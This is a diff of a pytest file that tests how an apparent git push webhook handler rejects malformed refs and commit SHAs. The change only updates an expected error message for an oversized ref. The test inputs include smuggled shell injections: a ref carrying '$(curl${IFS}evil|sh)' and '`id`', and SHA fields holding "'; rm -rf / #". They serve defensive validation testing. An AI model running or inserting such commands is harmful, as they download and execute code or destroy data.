@@ -25,7 +25,8 @@ def _push(client, delivery: str, **fields):
 
 @pytest.mark.parametrize("fields,says", [
     ({"ref": "refs/heads/x\n$(curl${IFS}evil|sh);`id`"}, "which git does not allow"),
-    ({"ref": "refs/heads/" + "x" * (20 * 2**20)}, "over the limit"),  # 20 MB: past the body limit
+    # 20 MB: past the body limit, read in pieces, and the ref kept is past it too
+    ({"ref": "refs/heads/" + "x" * (20 * 2**20)}, "fields read are over"),
     ({"ref": "refs/heads/" + "x" * 300}, "ref is longer than 255 bytes"),
     ({"after": "'; rm -rf / #", "checkout_sha": "'; rm -rf / #"}, "is not 40 or 64"),
 ])
